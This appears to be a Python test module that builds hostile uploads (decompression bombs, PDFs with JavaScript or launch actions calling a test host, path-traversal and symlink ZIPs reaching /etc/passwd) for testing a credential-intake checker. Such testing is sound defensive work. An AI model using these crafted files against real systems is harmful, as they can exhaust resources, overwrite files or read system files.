"""The hostile-input corpus: every way an intake window can arrive broken or malicious.

Each :class:`Case` builds its input with real tools into a window folder (PyMuPDF and
hand-written PDF objects, Pillow and hand-written PNG/JPEG chunks, :mod:`zipfile` with
patched headers, openpyxl, ``os.symlink``/``os.mkfifo``) and declares what credcheck must
make of it, in the terms of shared/spec/intake.md: per applicant, the rows of ``files.csv``
(status and a phrase of the detail), the phrases its ``errors`` must carry (file, row,
field) and the flags it must raise; per window, the problems that must be reported; per
reference table, what must be loaded and which rows refused.

Nothing here runs credcheck: :mod:`tests.hostile.verify` does, the same way for the
table-driven tests, the end-to-end run and the figures of ``python -m tests.hostile.report``.
Builders are deterministic (fixed seeds), so a case fails the same way every time.
"""

from __future__ import annotations

import functools
import io
import json
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from stdnum.cn import ric

# -- what a case expects ----------------------------------------------------------------------


@dataclass(frozen=True)
class Expect:
    """What the outputs must show for one applicant.

    ``files`` maps a files.csv name to (status, phrase of its detail); unless ``some_files``
    they are all of the applicant's rows. Every ``unreadable`` file must also raise a
    DOC_UNREADABLE flag that names it.
    """

    files: Mapping[str, tuple[str, str]] = field(default_factory=dict)
    errors: tuple[str, ...] = ()  # phrases the applicant's errors must contain
    flags: tuple[str, ...] = ()  # flag codes that must be raised
    processed: bool = True  # the form was read, so the uploads were screened
    some_files: bool = False


@dataclass(frozen=True)
class TableExpect:
    """What loading a window's reference tables must give."""

    pensions: int | None = None  # records loaded (None: the table is unusable)
    integrity: int | None = 0  # records loaded (None: the archive is present but unusable)
    problems: tuple[str, ...] = ()  # phrases, each found in some problem
    person: str = ""  # an identity number that must have records
    months: tuple[str, ...] = ()  # the months its pension records must hold (YYYY-MM)


@dataclass(frozen=True)
class Case:
    """One hostile input and what credcheck must make of it."""

    id: str
    group: str
    what: str
    build: Callable[[Path], None]  # builds into a window folder (with applicants/)
    applicants: Mapping[str, Expect] = field(default_factory=dict)
    problems: tuple[str, ...] = ()  # window-level problems (phrases)
    tables: TableExpect | None = None  # a reference-table case (its own window)
    window_error: str = ""  # the whole window must be refused with this phrase

    @property
    def in_window(self) -> bool:
        """True when the case joins the end-to-end window (table and window-file cases
        need their own window)."""
        return self.tables is None and not self.window_error


# -- identities and forms -----------------------------------------------------------------------


def id_number(index: int) -> str:
    """A valid identity number (GB 11643), distinct per index (0..999)."""
    body = f"45020219900312{index:03d}"
    return body + ric.calc_check_digit(body + "0")


UNIT = {"name": "柳州某某科技有限公司", "credit_code": "91450200MA5KXXXXXX", "type": "private",
        "established_staff": False, "department": "柳州市工业和信息化局"}


def form(applicant_id: str, index: int, attachments: list[dict[str, Any]] | None = None,
         **changes: Any) -> dict[str, Any]:
    """A valid application form; `attachments` default to none."""
    raw: dict[str, Any] = {
        "applicant_id": applicant_id, "name": "张伟", "id_number": id_number(index),
        "phone": "13800000000", "unit": dict(UNIT), "series": "工程", "specialty": "土木工程",
        "level": "中级", "route": "normal",
        "current_title": {"name": "助理工程师", "level": "初级", "obtained_on": "2018-12-20",
                          "appointed_on": "2019-01-01"},
        "application_date": "2024-07-15",
        "education": [{"level": "本科", "school": "重庆大学", "major": "土木工程",
                       "start": "2008-09",
                       "end": "2012-06", "diploma_number": "106111201205001234", "degree": "学士",
                       "degree_number": "1061142012001234"}],
        "work_history": [{"unit": UNIT["name"], "credit_code": UNIT["credit_code"],
                          "start": "2012-07",
                          "end": None, "post": "技术员"}],
        "papers": [],
        "attachments": attachments or [],
    }
    raw.update(changes)
    return raw


def write_form(folder: Path, raw: object) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "application.json").write_text(json.dumps(raw, ensure_ascii=False, indent=1),
                                             encoding="utf-8")


# -- documents ----------------------------------------------------------------------------------

DIPLOMA_LINES = ("普通高等学校毕业证书", "学生 张伟 性别 男 于二〇〇八年九月至二〇一二年六月",
                 "在本校土木工程专业四年制本科学习", "证书编号：106111201205001234")


def text_pdf(lines: tuple[str, ...] = DIPLOMA_LINES, *, pages: int = 1,
             save: Callable[..., Any] | None = None,
             edit: Callable[[Any], None] | None = None, **save_options: Any) -> bytes:
    """A born-digital PDF (PyMuPDF, CJK text layer); `edit` may change the document first."""
    import pymupdf

    doc = pymupdf.open()
    for _ in range(pages):
        page = doc.new_page(width=595, height=842)
        for i, line in enumerate(lines):
            page.insert_text((60, 120 + 32 * i), line, fontname="china-s", fontsize=16)
    if edit is not None:
        edit(doc)
    data = doc.tobytes(garbage=3, deflate=True, **save_options)
    doc.close()
    return data


def raw_pdf(objects: list[bytes], *, size: int | None = None) -> bytes:
    """A PDF written object by object (for structures no library would write).

    Object ``i + 1`` is ``objects[i]``; object 1 is the catalog.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += (b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (size or len(objects) + 1, xref))
    return bytes(out)


def pdf_stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT_OPS = b"BT /F1 20 Tf 72 720 Td (Certificate No. 106111201205001234) Tj ET"


def one_page_pdf(contents: bytes, *, resources: bytes = b"/Font << /F1 5 0 R >>",
                 extra: list[bytes] | None = None,
                 pages: bytes = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 mediabox: bytes = b"[0 0 595 842]") -> bytes:
    """Catalog, pages, one page, its content stream (object 4), Helvetica (object 5), extras."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        pages,
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources << %s >> /Contents 4 0 R >>"
        % (mediabox, resources),
        contents,
        _HELVETICA,
        *(extra or []),
    ])


def deflate_repeated(block: bytes, times: int, tail: bytes = b"") -> bytes:
    """zlib data of `block` repeated `times` times, then `tail`, compressing `block` once.

    Each copy is one fully flushed deflate segment (no history), so copies can be concatenated;
    the Adler-32 is computed over the whole, so readers accept the stream as valid.
    """
    segment = zlib.compressobj(9, zlib.DEFLATED, -15)
    unit = segment.compress(block) + segment.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = final.compress(tail) + final.flush()
    adler = 1
    for _ in range(times):
        adler = zlib.adler32(block, adler)
    return b"\x78\xda" + unit * times + last + struct.pack(">I", zlib.adler32(tail, adler))


@functools.cache
def pdf_content_bomb() -> bytes:
    """One page whose content stream inflates to 300 MB (≈300 KB on disk)."""
    data = deflate_repeated(b" " * 10_000_000, 30, tail=_TEXT_OPS)
    return one_page_pdf(pdf_stream(b"/Filter /FlateDecode", data))


@functools.cache
def pdf_image_bomb() -> bytes:
    """One page showing a 30000 x 30000 grey image (900 M pixels, ≈0.9 MB on disk)."""
    width = height = 30_000
    data = deflate_repeated(b"\xff" * width * 100, height // 100)
    image = pdf_stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d "
                       b"/ColorSpace /DeviceGray "
                       b"/BitsPerComponent 8 /Filter /FlateDecode" % (width, height), data)
    return one_page_pdf(pdf_stream(b"", b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
                        resources=b"/XObject << /Im1 6 0 R >>", extra=[image])


@functools.cache
def pdf_thousands_of_pages(count: int = 3000) -> bytes:
    """A valid PDF of `count` pages (one shared content stream)."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
               pdf_stream(b"", b"")]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * count
    return raw_pdf(objects)


def pdf_page_tree_cycle() -> bytes:
    """The page tree lists itself among its kids."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                    pdf_stream(b"", b"")])


def pdf_count_lie() -> bytes:
    """The page tree claims 100000 pages and holds one."""
    return one_page_pdf(pdf_stream(b"", _TEXT_OPS),
                        pages=b"<< /Type /Pages /Kids [3 0 R] /Count 100000 >>")


def pdf_deep_nesting() -> bytes:
    """An object nested 100000 arrays deep, referenced from the page."""
    deep = b"[" * 100_000 + b"]" * 100_000
    return one_page_pdf(pdf_stream(b"", _TEXT_OPS),
                        resources=b"/Font << /F1 5 0 R >> /Deep 6 0 R", extra=[deep])


def truncated(data: bytes, keep: float | int) -> bytes:
    return data[: int(len(data) * keep) if isinstance(keep, float) else keep]


def garbage_pdf() -> bytes:
    return b"%PDF-1.7\n" + random.Random(8).randbytes(4096)


def with_javascript(doc: Any) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction",
                     "<< /S /JavaScript /JS (app.launchURL\\('http://198.51.100.7/x'\\);) >>")


def with_launch_action(doc: Any) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction",
                     "<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")


def with_embedded_file(doc: Any) -> None:
    doc.embfile_add("payload.exe", b"MZ" + b"\x90" * 512, filename="payload.exe")


def with_remote_links(doc: Any) -> None:
    import pymupdf

    page = doc[0]
    page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(60, 60, 300, 90),
                      "uri": "http://198.51.100.7/track.gif"})
    page.insert_link({"kind": pymupdf.LINK_LAUNCH, "from": pymupdf.Rect(60, 400, 300, 430),
                      "file": "\\\\198.51.100.7\\share\\x.exe"})


def broken_xref(data: bytes) -> bytes:
    """Every xref offset pointing at the wrong place (readers must rebuild it)."""
    head, sep, tail = data.rpartition(b"startxref")
    return head + sep + b"\n123\n%%EOF\n" if sep else data


# -- images -------------------------------------------------------------------------------------


def png_bytes(size: tuple[int, int] = (400, 300), mode: str = "RGB") -> bytes:
    from PIL import Image, ImageDraw

    im = Image.new(mode, size, "white")
    ImageDraw.Draw(im).rectangle((20, 20, size[0] - 20, 60), outline="black")
    out = io.BytesIO()
    im.save(out, "PNG")
    return out.getvalue()


def jpeg_bytes(size: tuple[int, int] = (400, 300)) -> bytes:
    from PIL import Image, ImageDraw

    im = Image.new("RGB", size, (240, 240, 230))
    ImageDraw.Draw(im).ellipse((100, 60, 300, 240), outline=(200, 0, 0), width=6)
    out = io.BytesIO()
    im.save(out, "JPEG", quality=85)
    return out.getvalue()


def _png_chunk(tag: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))


@functools.cache
def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A real PNG of width x height black-and-white pixels: 312 MB of pixels in ≈300 KB."""
    row = b"\x00" * (1 + (width + 7) // 8)
    data = deflate_repeated(row * 1000, height // 1000)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", data)
            + _png_chunk(b"IEND", b""))


def png_zero_size() -> bytes:
    header = struct.pack(">IIBBBBB", 0, 0, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IEND", b"")


def png_bad_crc() -> bytes:
    data = bytearray(png_bytes())
    data[29] ^= 0xFF  # IHDR's CRC
    return bytes(data)


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header declares another size."""
    data = bytearray(jpeg_bytes((64, 64)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5: sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def tiff_frames(count: int) -> bytes:
    from PIL import Image

    frames = [Image.new("L", (8, 8), 255) for _ in range(count)]
    out = io.BytesIO()
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def gif_bytes() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("P", (32, 32)).save(out, "GIF")
    return out.getvalue()


SVG_WITH_REMOTE = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                   b'<image xlink:href="http://198.51.100.7/x.png" width="10" height="10"/></svg>')
EXE = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 200
HTML = b"<html><body><script>fetch('http://198.51.100.7/')</script>\xe8\xaf\x81\xe4\xb9\xa6</body></html>"


# -- archives -----------------------------------------------------------------------------------

Member = tuple[str | zipfile.ZipInfo, bytes]


def zip_bytes(members: list[Member], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return out.getvalue()


def symlink_member(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (0o120777 << 16)
    info.create_system = 3
    return info


def _patch_headers(data: bytes, local: Callable[[bytearray, int], None],
                   central: Callable[[bytearray, int], None]) -> bytes:
    out = bytearray(data)
    start = 0
    while (at := out.find(b"PK\x03\x04", start)) >= 0:
        local(out, at)
        start = at + 4
    start = 0
    while (at := out.find(b"PK\x01\x02", start)) >= 0:
        central(out, at)
        start = at + 4
    return bytes(out)


def encrypted_flag(data: bytes) -> bytes:
    """Mark every member encrypted (general-purpose bit 0), as a password-protected ZIP does."""
    def local(b: bytearray, at: int) -> None:
        b[at + 6] |= 0x01

    def central(b: bytearray, at: int) -> None:
        b[at + 8] |= 0x01

    return _patch_headers(data, local, central)


def declared_sizes(data: bytes, size: int) -> bytes:
    """Headers that declare `size` uncompressed bytes per member (data unchanged)."""
    def local(b: bytearray, at: int) -> None:
        b[at + 22: at + 26] = struct.pack("<I", size)

    def central(b: bytearray, at: int) -> None:
        b[at + 24: at + 28] = struct.pack("<I", size)

    return _patch_headers(data, local, central)


class _GbkInfo(zipfile.ZipInfo):
    """A member whose name is stored in GBK without the UTF-8 flag (Chinese Windows tools)."""

    def _encodeFilenameFlags(self) -> tuple[bytes, int]:  # noqa: N802 - zipfile's name
        return self.filename.encode("gbk"), self.flag_bits


@functools.cache
def zip_42() -> bytes:
    """Zips inside zips inside zips (the 42.zip shape; smaller)."""
    inner = zip_bytes([(f"{i}.pdf", b"\0" * (2 * 1024 * 1024)) for i in range(4)])
    middle = zip_bytes([(f"{i}.zip", inner) for i in range(4)])
    return zip_bytes([("材料.pdf", text_pdf()), ("nested.zip", middle)])


# -- builders -----------------------------------------------------------------------------------

_index = iter(range(1, 1000))
_INDEX: dict[str, int] = {}


def index_of(applicant_id: str) -> int:
    """A stable index per applicant id (distinct identity numbers across the corpus)."""
    if applicant_id not in _INDEX:
        _INDEX[applicant_id] = next(_index)
    return _INDEX[applicant_id]


def applicant(window: Path, applicant_id: str) -> Path:
    folder = window / "applicants" / applicant_id
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def upload_case(case_id: str, group: str, what: str, name: str, payload: Callable[[], bytes],
                files: Mapping[str, tuple[str, str]], *, kind: str = "other",
                flags: tuple[str, ...] = ()) -> Case:
    """An applicant with a valid form that declares one upload: the hostile file `name`."""
    def build(window: Path) -> None:
        folder = applicant(window, case_id)
        write_form(folder, form(case_id, index_of(case_id), [{"file": name, "kind": kind}]))
        (folder / name).write_bytes(payload())

    return Case(case_id, group, what, build, {case_id: Expect(files=dict(files), flags=flags)})


def unreadable(name: str, reason: str) -> dict[str, tuple[str, str]]:
    return {name: ("unreadable", reason)}


def ok(name: str, detail: str = "") -> dict[str, tuple[str, str]]:
    return {name: ("ok", detail)}


# -- the cases --------------------------------------------------------------------------------

PDF_CASES = [
    upload_case("pdf-truncated-half", "pdf", "a born-digital PDF cut in half in transit",
                "毕业证.pdf", lambda: truncated(text_pdf(pages=4), 0.5),
                unreadable("毕业证.pdf", "corrupt PDF")),
    upload_case("pdf-truncated-header", "pdf", "only the first 64 bytes of a PDF arrived",
                "毕业证.pdf", lambda: truncated(text_pdf(), 64), unreadable("毕业证.pdf", "PDF")),
    upload_case("pdf-garbage-body", "pdf", "a PDF header followed by 4 KB of random bytes",
                "学位证.pdf", garbage_pdf, unreadable("学位证.pdf", "PDF")),
    upload_case("pdf-broken-xref", "pdf",
                "a PDF whose cross-reference table points nowhere (repairable)",
                "学位证.pdf", lambda: broken_xref(text_pdf()), ok("学位证.pdf")),
    upload_case("pdf-junk-before-header", "pdf",
                "400 bytes of junk before %PDF- (readers accept it)",
                "学位证.pdf", lambda: b"\x00junk" * 80 + text_pdf(), ok("学位证.pdf")),
    upload_case("pdf-encrypted-user-password", "pdf",
                "an AES-256 PDF that needs a password to open",
                "聘书.pdf", lambda: text_pdf(encryption=5, user_pw="secret", owner_pw="owner"),
                unreadable("聘书.pdf", "encrypted PDF: a password is needed")),
    upload_case("pdf-encrypted-owner-only", "pdf",
                "an encrypted PDF with an owner password only (opens)",
                "聘书.pdf", lambda: text_pdf(encryption=5, owner_pw="owner", permissions=0),
                ok("聘书.pdf")),
    upload_case("pdf-3000-pages", "pdf", "a valid PDF of 3000 pages",
                "论文.pdf", pdf_thousands_of_pages,
                unreadable("论文.pdf", "too many pages (3000; limit 300)")),
    upload_case("pdf-page-count-lie", "pdf", "a page tree that claims 100000 pages",
                "论文.pdf", pdf_count_lie, unreadable("论文.pdf", "corrupt PDF")),
    upload_case("pdf-page-tree-cycle", "pdf", "a page tree that contains itself",
                "论文.pdf", pdf_page_tree_cycle, unreadable("论文.pdf", "cannot be read")),
    upload_case("pdf-deep-nesting", "pdf", "an object nested 100000 arrays deep",
                "论文.pdf", pdf_deep_nesting, ok("论文.pdf")),
    upload_case("pdf-javascript", "pdf", "a PDF that runs JavaScript on open (calls a URL)",
                "合同.pdf", lambda: text_pdf(edit=with_javascript), ok("合同.pdf", "JavaScript")),
    upload_case("pdf-launch-action", "pdf", "a PDF that launches a program on open",
                "合同.pdf", lambda: text_pdf(edit=with_launch_action), ok("合同.pdf", "launch")),
    upload_case("pdf-embedded-file", "pdf", "a PDF carrying an embedded executable",
                "合同.pdf", lambda: text_pdf(edit=with_embedded_file),
                ok("合同.pdf", "embedded file")),
    upload_case("pdf-remote-links", "pdf", "a PDF linking to a remote image and a network share",
                "合同.pdf", lambda: text_pdf(edit=with_remote_links), ok("合同.pdf", "launch")),
    upload_case("pdf-huge-page", "pdf", "a 5 m x 5 m page (rendered at a lowered resolution)",
                "花名册.pdf",
                lambda: one_page_pdf(pdf_stream(b"", _TEXT_OPS), mediabox=b"[0 0 14400 14400]"),
                ok("花名册.pdf")),
    upload_case("pdf-content-bomb", "pdf", "a content stream of 300 MB packed into 300 KB",
                "花名册.pdf", pdf_content_bomb, unreadable("花名册.pdf", "decompression bomb")),
    upload_case("pdf-image-bomb", "pdf", "a page image of 30000 x 30000 pixels packed into 1 MB",
                "花名册.pdf", pdf_image_bomb, unreadable("花名册.pdf", "decompression bomb")),
]

IMAGE_CASES = [
    upload_case("png-bomb-50000", "image", "a real PNG of 50000 x 50000 pixels (312 MB) in 300 KB",
                "毕业证.png", png_bomb, unreadable("毕业证.png", "decompression bomb")),
    upload_case("jpeg-declares-65000", "image", "a JPEG whose header declares 65000 x 65000 pixels",
                "毕业证.jpg", lambda: jpeg_declaring(65000, 65000),
                unreadable("毕业证.jpg", "decompression bomb")),
    upload_case("tiff-1000-frames", "image", "a TIFF of 1000 pages",
                "考核表.tif", lambda: tiff_frames(1000),
                unreadable("考核表.tif", "too many pages (1000; limit 300)")),
    upload_case("jpeg-truncated", "image", "a JPEG cut in half",
                "身份证.jpg", lambda: truncated(jpeg_bytes(), 0.5),
                unreadable("身份证.jpg", "truncated image")),
    upload_case("png-bad-crc", "image", "a PNG whose header checksum is wrong",
                "身份证.png", png_bad_crc, unreadable("身份证.png", "corrupt or truncated image")),
    upload_case("png-zero-size", "image", "a PNG of 0 x 0 pixels",
                "身份证.png", png_zero_size, unreadable("身份证.png", "image")),
    upload_case("png-16-bit-alpha", "image", "a 16-bit PNG with transparency (valid)",
                "身份证.png", lambda: png_bytes(mode="I;16"), ok("身份证.png")),
]

TYPE_CASES = [
    upload_case("empty-pdf", "type", "a 0-byte PDF", "毕业证.pdf", lambda: b"",
                unreadable("毕业证.pdf", "is empty (0 bytes)")),
    upload_case("empty-jpg", "type", "a 0-byte JPEG", "聘书.jpg", lambda: b"",
                unreadable("聘书.jpg", "is empty (0 bytes)")),
    upload_case("lie-jpeg-as-pdf", "type", "a JPEG named .pdf", "毕业证.pdf", jpeg_bytes,
                unreadable("毕业证.pdf",
                           "extension '.pdf' says a PDF but the content is a JPEG image")),
    upload_case("lie-pdf-as-jpg", "type", "a PDF named .jpg", "毕业证.jpg", text_pdf,
                unreadable("毕业证.jpg",
                           "extension '.jpg' says a JPEG image but the content is a PDF")),
    upload_case("lie-png-as-jpg", "type", "a PNG named .jpg", "毕业证.jpg", png_bytes,
                unreadable("毕业证.jpg", "says a JPEG image but the content is a PNG image")),
    upload_case("lie-zip-as-pdf", "type", "a ZIP (a .docx) named .pdf", "毕业证.pdf",
                lambda: zip_bytes([("word/document.xml", b"<w:document/>")]),
                unreadable("毕业证.pdf", "says a PDF but the content is a ZIP archive")),
    upload_case("lie-exe-as-pdf", "type", "a Windows executable named .pdf", "毕业证.pdf",
                lambda: EXE,
                unreadable("毕业证.pdf", "content is not recognised")),
    upload_case("lie-html-as-pdf", "type", "an HTML page with a script named .pdf", "毕业证.pdf",
                lambda: HTML,
                unreadable("毕业证.pdf", "content is not recognised")),
    upload_case("lie-gif-as-jpg", "type", "a GIF named .jpg", "毕业证.jpg", gif_bytes,
                unreadable("毕业证.jpg", "content is not recognised")),
    upload_case("lie-svg-as-png", "type", "an SVG fetching a remote image, named .png",
                "毕业证.png",
                lambda: SVG_WITH_REMOTE, unreadable("毕业证.png", "content is not recognised")),
    upload_case("unsupported-docx", "type", "a Word document", "论文.docx",
                lambda: zip_bytes([("word/document.xml", b"<w:document/>")]),
                unreadable("论文.docx", "unsupported extension '.docx'")),
    upload_case("unsupported-no-extension", "type", "a PDF without an extension", "scan", text_pdf,
                unreadable("scan", "unsupported extension '(none)'")),
    upload_case("unsupported-double-extension", "type", "an executable named 证书.pdf.exe",
                "证书.pdf.exe",
                lambda: EXE, unreadable("证书.pdf.exe", "unsupported file type")),
    upload_case("upper-case-extension", "type", "a valid PDF named .PDF", "SCAN.PDF", text_pdf,
                ok("SCAN.PDF")),
]


def _zip_case(case_id: str, what: str, payload: Callable[[], bytes],
              files: Mapping[str, tuple[str, str]],
              name: str = "材料.zip") -> Case:
    return upload_case(case_id, "zip", what, name, payload, files)


ZIP_CASES = [
    _zip_case("zip-bomb-ratio", "one 20 MiB member of zeros (ratio ~1000:1)",
              lambda: zip_bytes([("毕业证.pdf", b"\0" * (20 * 1024 * 1024))]),
              unreadable("材料.zip", "possible zip bomb")),
    _zip_case("zip-bomb-declared-total", "members that declare 3 GiB in all",
              lambda: declared_sizes(zip_bytes([(f"{i}.pdf", text_pdf()) for i in range(3)]),
                                     1024 ** 3 + 1),
              unreadable("材料.zip", "possible zip bomb")),
    _zip_case("zip-lying-sizes", "headers that under-declare what the members inflate to",
              lambda: declared_sizes(zip_bytes([("毕业证.pdf", text_pdf())]), 100),
              unreadable("材料.zip", "corrupt ZIP archive")),
    _zip_case("zip-nested-42", "zips inside zips inside zips (42.zip), beside one good file",
              zip_42, {"材料.zip": ("ok", "archive: 2 file(s)"), "材料.zip/材料.pdf": ("ok", ""),
                       "材料.zip/nested.zip": ("unreadable",
                                               "nested ZIP archives are not opened")}),
    _zip_case("zip-too-many-members", "501 members",
              lambda: zip_bytes([(f"{i}.pdf", b"%PDF-1.4") for i in range(501)]),
              unreadable("材料.zip", "too many members (501; limit 500)")),
    _zip_case("zip-traversal-dotdot", "a member named ../../../../tmp/credcheck-pwned.pdf",
              lambda: zip_bytes([("学历.pdf", text_pdf()),
                                 ("../../../../tmp/credcheck-pwned.pdf", text_pdf())]),
              unreadable("材料.zip", "would be written outside the archive folder")),
    _zip_case("zip-traversal-absolute", "a member named /tmp/credcheck-pwned.pdf",
              lambda: zip_bytes([("/tmp/credcheck-pwned.pdf", text_pdf())]),
              unreadable("材料.zip", "would be written outside the archive folder")),
    _zip_case("zip-traversal-drive", "a member named C:\\credcheck-pwned.pdf",
              lambda: zip_bytes([("C:\\credcheck-pwned.pdf", text_pdf())]),
              unreadable("材料.zip", "would be written outside the archive folder")),
    _zip_case("zip-traversal-backslash", "a member named ..\\..\\credcheck-pwned.pdf",
              lambda: zip_bytes([("..\\..\\credcheck-pwned.pdf", text_pdf())]),
              unreadable("材料.zip", "would be written outside the archive folder")),
    _zip_case("zip-traversal-inner", "a member named 学历/../../credcheck-pwned.pdf",
              lambda: zip_bytes([("学历/../../credcheck-pwned.pdf", text_pdf())]),
              unreadable("材料.zip", "would be written outside the archive folder")),
    _zip_case("zip-dir-entry-traversal",
              "a directory entry ../../credcheck-pwned/ beside a good file",
              lambda: zip_bytes([("../../credcheck-pwned/", b""), ("学历.pdf", text_pdf())]),
              {"材料.zip": ("ok", "archive: 1 file(s)"), "材料.zip/学历.pdf": ("ok", "")}),
    _zip_case("zip-symlink-member", "a member that is a symbolic link to /etc/passwd",
              lambda: zip_bytes([(symlink_member("passwd.pdf", "/etc/passwd"), b"/etc/passwd")]),
              unreadable("材料.zip", "is a symbolic link")),
    _zip_case("zip-encrypted", "a password-protected archive",
              lambda: encrypted_flag(zip_bytes([("毕业证.pdf", text_pdf())])),
              unreadable("材料.zip", "is encrypted")),
    _zip_case("zip-duplicate-member", "the same member name twice",
              lambda: zip_bytes([("毕业证.pdf", text_pdf()), ("毕业证.pdf", jpeg_bytes())]),
              unreadable("材料.zip", "appears twice")),
    _zip_case("zip-truncated", "an archive cut in half",
              lambda: truncated(zip_bytes([("毕业证.pdf", text_pdf()), ("b.jpg", jpeg_bytes())]),
                                0.5),
              unreadable("材料.zip", "corrupt ZIP archive")),
    _zip_case("zip-empty", "an archive with no members", lambda: zip_bytes([]),
              unreadable("材料.zip", "ZIP archive is empty")),
    _zip_case("zip-gbk-names", "member names stored in GBK by a Chinese Windows tool",
              lambda: zip_bytes([(_GbkInfo("学历证书.pdf"), text_pdf())]),
              {"材料.zip": ("ok", "archive: 1 file(s)"), "材料.zip/学历证书.pdf": ("ok", "")}),
    _zip_case("zip-mixed-members", "a good PDF, an empty member and an executable",
              lambda: zip_bytes([("学历.pdf", text_pdf()), ("空.jpg", b""), ("setup.pdf", EXE)]),
              {"材料.zip": ("ok", "archive: 3 file(s)"), "材料.zip/学历.pdf": ("ok", ""),
               "材料.zip/空.jpg": ("unreadable", "is empty"),
               "材料.zip/setup.pdf": ("unreadable", "content is not recognised")}),
    _zip_case("zip-long-member-name", "a member name of 300 characters",
              lambda: zip_bytes([("证" * 300 + ".pdf", text_pdf())]),
              unreadable("材料.zip", "cannot be unpacked (File name too long)")),
    _zip_case("zip-deep-member-path", "a member 600 folders deep (longer than PATH_MAX)",
              lambda: zip_bytes([("d1234567/" * 600 + "x.pdf", text_pdf())]),
              unreadable("材料.zip", "cannot be unpacked (File name too long)")),
]


# -- folder cases: what sits in an applicant's folder -------------------------------------------


def folder_case(case_id: str, what: str, setup: Callable[[Path, Path], None], expect: Expect,
                attachments: list[dict[str, Any]] | None = None,
                form_changes: Mapping[str, Any] | None = None) -> Case:
    """An applicant with a valid form (declaring `attachments`) whose folder `setup` alters.

    `setup` gets the applicant folder and a scratch folder outside the window.
    """
    def build(window: Path) -> None:
        folder = applicant(window, case_id)
        write_form(folder, form(case_id, index_of(case_id), attachments, **(form_changes or {})))
        outside = window.parent / f"{window.name}-outside"
        outside.mkdir(exist_ok=True)
        (outside / "secret.pdf").write_bytes(text_pdf(("机密文件",)))
        setup(folder, outside)

    return Case(case_id, "folder", what, build, {case_id: expect})


def _link(name: str, target: Callable[[Path, Path], str | Path]) -> Callable[[Path, Path], None]:
    def setup(folder: Path, outside: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target(folder, outside), folder / name)
    return setup


def _write(name: str | bytes, payload: Callable[[], bytes]) -> Callable[[Path, Path], None]:
    def setup(folder: Path, outside: Path) -> None:
        path = os.path.join(os.fsencode(folder),
                            name if isinstance(name, bytes) else os.fsencode(name))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as handle:
            handle.write(payload())
    return setup


def _steps(*steps: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
    def setup(folder: Path, outside: Path) -> None:
        for step in steps:
            step(folder, outside)
    return setup


def _fifo(name: str) -> Callable[[Path, Path], None]:
    def setup(folder: Path, outside: Path) -> None:
        os.mkfifo(folder / name)
    return setup


def _form_link(folder: Path, outside: Path) -> None:
    other = outside / "application.json"
    other.write_text(json.dumps(form(folder.name, index_of(folder.name)), ensure_ascii=False),
                     encoding="utf-8")
    (folder / "application.json").unlink()
    os.symlink(other, folder / "application.json")


GBK_NAME = "学历证书.pdf".encode("gbk")  # not UTF-8: how a GBK zip tool leaves a name on Linux
GBK_SHOWN = os.fsdecode(GBK_NAME).encode("utf-8", "backslashreplace").decode("utf-8")
